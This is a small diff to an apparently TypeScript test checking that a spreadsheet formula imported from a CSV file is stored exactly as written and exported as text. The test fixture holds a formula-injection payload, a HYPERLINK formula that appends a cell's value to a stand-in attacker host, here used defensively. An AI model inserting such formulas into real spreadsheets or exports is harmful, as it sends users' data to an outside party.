@@ -63,7 +63,9 @@ test('a formula from a file is kept as it was written, and leaves as text', asyn
 	const formula = '=HYPERLINK("http://evil.example?"&A1,"Open")';
 	await take(`id,day,when,better\nf1,2021-01-11,sat,"${formula.replaceAll('"', '""')}"`);
 	const rows = await inWorkspace(database.db, by.workspaceId, (tx) =>
-		forPurpose(tx, 'inform', () => tx.selectFrom('answer').select('value').execute())
+		forPurpose(tx, { reader: by.accountId, purpose: 'inform' }, () =>
+			tx.selectFrom('answer').select('value').execute()
+		)
 	);
 	const [stored] = rows.map((row) => String(row.value)).filter((text) => text.includes('HYPERLINK'));
 	expect(stored).toBe(formula);
